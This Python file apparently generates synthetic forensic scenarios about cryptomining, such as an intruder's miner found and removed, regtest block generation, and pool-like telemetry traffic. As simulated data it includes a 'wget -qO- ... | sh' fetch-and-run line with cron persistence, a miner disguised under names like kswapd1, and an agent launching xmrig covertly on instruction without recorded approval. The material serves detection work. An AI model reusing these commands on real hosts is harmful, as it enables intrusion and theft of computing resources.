"""Rival families: mining by order, an intruder's miner removed, traffic alone, coins of no worth, monitoring."""

from __future__ import annotations

from dataclasses import replace

from forensics.demo.acts import HOUR, MINUTE, SECOND
from forensics.demo.suite import notices
from forensics.demo.suite.cast import bitcoin_address
from forensics.demo.suite.chapters import around, fetches, given, launches, meets_limit, mines, unpacks
from forensics.demo.suite.deeds import Endpoint, Label, Run, label
from forensics.demo.suite.sight import CLASSES, PLAIN, Sight
from forensics.demo.suite.teller import Teller


def told_to_mine(teller: Teller) -> Sight:
    """Whoever gave the task asks for mining, without approval in the case file; the agent does as it is told."""
    cast, draw = teller.cast, teller.draw
    facts = teller.facts
    facts.attribution, facts.also_fair = "sanctioned_workload", ("operator", "unknown")
    facts.intent = ("instructed",)
    agent = teller.agent()
    pool = cast.pool.at
    agent.prompt(teller.words("ask_order", pool=pool, wallet=cast.wallet), Label(fair=("objective", "decision")))
    agent.ordinary(1)
    if draw.random() < 0.5:
        agent.think(teller.words("obey"), Label(fair=("decision", "exploration")))
    fetches(agent, folder="~/xmr")
    unpacks(agent, folder="~/xmr")
    start = launches(
        agent, f"cd ~/xmr && nohup ./xmrig -o {pool} -u {cast.wallet} -p {cast.worker} -k >/dev/null 2>&1 &",
        endpoint=cast.pool,
    )  # fmt: skip
    begin, end = agent.at_us, agent.at_us + draw.randrange(4, 12) * HOUR
    agent.say(teller.words("after", 0), Label(fair=("mining",)))
    mines(teller, start, begin, end, payouts=draw.randrange(2))
    agent.at_us = end - SECOND
    if draw.random() < 0.6:
        agent.prompt(teller.words("enough"), Label(fair=("containment", "detection")))
        agent.do("pkill -f xmrig", "", Label(fair=("containment", "mining")))
        agent.say(teller.words("done"))
    around(teller)
    return PLAIN


def incident_response(teller: Teller) -> Sight:
    """The agent is asked to look into a host, finds an intruder's miner there, and kills and removes it."""
    cast, draw = teller.cast, teller.draw
    facts = teller.facts
    facts.attribution, facts.also_fair = "intruder", ("unknown",)
    pool, host = cast.pool, cast.host
    begin = teller.start_us
    user, uid = draw.choice((("www-data", 33), ("postgres", 115), ("tomcat", 114)))
    path = draw.choice(("/tmp/.X11/kswapd1", "/var/tmp/.sys/dbusd", "/dev/shm/.m/xmr", "/tmp/kinsing"))  # noqa: S108
    shell, miner = teller.pids(), teller.pids(2)
    archive = f"http://{cast.mirror.name}/{draw.choice(('m', 'a', 'unix'))}.sh"
    teller.process(begin, Run(("sh", "-c", f"wget -qO- {archive} | sh"), pid=shell, parent=1_310),
                   label("acquisition", fair=("setup", "mining")), uid=uid, user=user)  # fmt: skip
    flags = ("-o", pool.at, "-u", cast.wallet, "-k", "-B")
    start = teller.process(
        begin + 5 * SECOND,
        Run((path, *flags), pid=miner, parent=shell, sockets=((pool.address, pool.port),)), label("mining"), uid=uid,
        user=user,
    )  # fmt: skip
    agent = teller.agent(at_us=begin + draw.randrange(6, 14) * HOUR)
    agent.prompt(teller.words("ask_respond", host=host.name), Label(fair=("detection", "objective")))
    finds = label("detection", fair=("mining",))
    ps = f"{user} {miner} 3120 0.9 {path} {' '.join(flags)}"
    seen = agent.do("ps aux --sort=-%cpu | head -5", f"USER PID %CPU %MEM COMMAND\n{ps}", finds)
    agent.do(f"ls -l /proc/{miner}/exe; cat /proc/{miner}/cmdline | tr '\\0' ' '", f"{path}\n{path} {' '.join(flags)}",
             Label(fair=("detection", "mining")))  # fmt: skip
    agent.do(f"ss -tnp | grep {miner}", f"ESTAB 0 0 {host.address}:40112 {pool.address}:{pool.port}",
             Label(fair=("detection", "mining")))  # fmt: skip
    agent.do(
        f"crontab -l -u {user}", f"*/10 * * * * wget -qO- {archive} | sh", Label(fair=("detection", "persistence"))
    )
    agent.think(teller.words("found_miner"), Label(fair=("detection", "containment")))
    end = agent.at_us + 20 * SECOND
    agent.at_us = end
    stopped = agent.do(f"sudo kill -9 {miner} && sudo crontab -r -u {user}", "", label("containment"))
    agent.do(f"sudo mv {path} /root/quarantine/ && sha256sum /root/quarantine/* | head -1", "9f2c...  quarantined",
             Label(fair=("containment", "recovery")))  # fmt: skip
    agent.do(f"sudo iptables -A OUTPUT -d {pool.address} -j DROP", "", Label(fair=("containment",)))
    teller.link("noticed_then_stopped", seen, "call exec typed result", stopped, "call exec typed")
    report = f"# {host.name}\nMiner {path}, pool {pool.at}, wallet {cast.wallet}. Removed."
    agent.write(f"{agent.home}/report.md", report, Label(fair=("detection", "containment")))
    agent.say(teller.words("done"))
    mines(teller, start, begin + 5 * SECOND, end, log=None, ledger=False, payouts=0)
    around(teller)
    return PLAIN


def only_network(teller: Teller) -> Sight:
    """Flows and names asked for, of a pool that everybody knows, and nothing else of anybody."""
    cast, draw = teller.cast, teller.draw
    facts = teller.facts
    facts.states = ("undetermined", "no_incident")
    facts.attribution, facts.also_fair = "unknown", ("intruder", "operator", "look_alike_load")
    facts.mining_fair = (True, None)
    begin = teller.start_us
    teller.story.sensor = draw.choice(("zeek", "zeek_json", "suricata"))
    clients = draw.sample(range(100, 250), draw.randrange(1, 3))
    for number, octet in enumerate(clients):
        host = replace(cast.host, name="", address=f"{cast.network}.{octet}")
        end = begin + draw.randrange(5, 20) * HOUR
        mines(teller, None, begin + number * HOUR, end, host=host, log=None, ledger=False, payouts=0)
        if teller.story.sensor == "suricata":
            alert = notices.network_alert(teller, begin + number * HOUR + 4 * SECOND, host.address, cast.pool)
            notices.alerted(teller, alert)
    facts.wallet = None  # it stands in no record
    around(teller, sessions=0)
    return replace(PLAIN, without=frozenset(CLASSES) - {"network"})


def regtest_dev(teller: Teller) -> Sight:
    """Blocks of a private test chain are made, as the task asks: a miner against a local node, coins of no worth."""
    cast, draw = teller.cast, teller.draw
    facts = teller.facts
    facts.mining_fair = (False, None)
    agent = teller.agent()
    agent.prompt(teller.words("ask_regtest"))
    agent.ordinary(2)
    coin = bitcoin_address(draw)
    port = draw.choice((18_443, 18_081, 8_545, 38_081))
    local = (("127.0.0.1", port),)
    asked = f'{{"method":"generateblocks","params":{{"amount_of_blocks":60,"wallet_address":"{cast.wallet}"}}}}'
    steps = (
        ("docker compose -f tests/regtest.yml up -d bitcoind", "Container regtest-bitcoind-1 Started", ()),
        ("bitcoind -regtest -daemon -datadir=/tmp/rt -fallbackfee=0.0002", "Bitcoin Core starting", ()),
        ("bitcoin-cli -regtest -datadir=/tmp/rt createwallet miner", '{\n  "name": "miner"\n}', local),
        (f"bitcoin-cli -regtest -datadir=/tmp/rt generatetoaddress 101 {coin}", '[\n  "0f9188f13cb7b2"\n]', local),
        ("monerod --regtest --offline --fixed-difficulty 1 --detach", "Forking to background...", ()),
        (f"curl -s http://127.0.0.1:{port}/json_rpc -d '{asked}'", '{"result":{"height":60,"status":"OK"}}', local),
        ("anvil --block-time 1 --port 8545 > anvil.log 2>&1 &", "[1] 5120", ()),
        (f"geth --dev --mine --miner.etherbase 0x{1:040x} --datadir /tmp/dev &", "[1] 5177", ()),
        (f"timeout 20 minerd --algo sha256d -o http://127.0.0.1:{port} -u rt -p rt --coinbase-addr {coin}",
         "accepted: 1/1 (100.00%), 812 khash/s (yay!!!)", local),
    )  # fmt: skip
    for command, output, sockets in draw.sample(steps, 5):
        agent.do(command, output, sockets=sockets)
    agent.write(
        f"{agent.session.cwd}/tests/test_reorg.py", "def test_reorg(node):\n    node.generatetoaddress(6, node.address)"
    )
    agent.do("python3 -m pytest -q tests/test_reorg.py 2>&1 | tail -1", "7 passed in 21.40s")
    agent.do("git commit -qam 'settle deposits after six blocks, test reorgs on regtest'", "")
    agent.at_us += MINUTE
    agent.say(teller.words("done"))
    around(teller)
    return PLAIN


def telemetry_lookalike(teller: Teller) -> Sight:
    """Long, thin, regular traffic to a port that pools like too: monitoring."""
    cast, draw = teller.cast, teller.draw
    agent = teller.agent()
    names = given(agent)
    if draw.random() < 0.5:
        meets_limit(agent, names)
    port = draw.choice((3333, 4444, 5555, 14444, 7777))
    ingest = Endpoint("ingest.telemetry.example", f"198.51.100.{draw.randrange(100, 240)}", port)
    agent.do(
        f"nohup ./exporter --remote {ingest.at} --interval 30s --user {cast.host.name} >/dev/null 2>&1 &",
        "[1] 40112", sockets=((ingest.address, port),),
    )  # fmt: skip
    teller.wire(agent.at_us, ingest, 20 * HOUR, client=cast.host.address)
    for host in cast.hosts[1:4]:
        teller.wire(cast.begin_us + draw.randrange(HOUR), replace(ingest), 30 * HOUR, client=host.address)
    agent.ordinary(4)
    agent.say(teller.words("done"))
    around(teller)
    return PLAIN
